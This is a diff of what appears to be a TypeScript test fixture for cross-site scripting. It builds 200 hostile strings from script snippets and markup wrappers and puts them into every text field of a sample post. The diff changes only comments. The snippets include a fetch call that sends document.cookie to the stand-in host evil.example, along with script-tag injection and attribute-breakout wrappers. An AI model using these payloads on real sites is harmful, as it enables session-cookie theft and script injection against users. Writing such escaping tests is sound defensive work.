@@ -1,7 +1,6 @@
-/** Ways to run a script. */
 const runs = ['window.hostile=1', "document.title='hostile'", 'alert(1)', "fetch('https://evil.example/'+document.cookie)"];
 
-/** Markup that would run one, or load something, were it taken for markup. */
+/** Would run a script or load something if it were rendered as markup. */
 const markups: readonly ((run: string) => string)[] = [
   (run) => `<script>${run}</script>`,
   (run) => `"><script>${run}</script>`,
@@ -58,7 +57,7 @@ const markups: readonly ((run: string) => string)[] = [
 /** 200 payloads. */
 export const hostileTexts: readonly string[] = markups.flatMap((toMarkup) => runs.map(toMarkup));
 
-/** A post that has the text in each of its fields that takes one. */
+/** A post with the text in each of its text fields. */
 export function hostilePost(text: string, index: number): object {
   const author = {
     id: text,
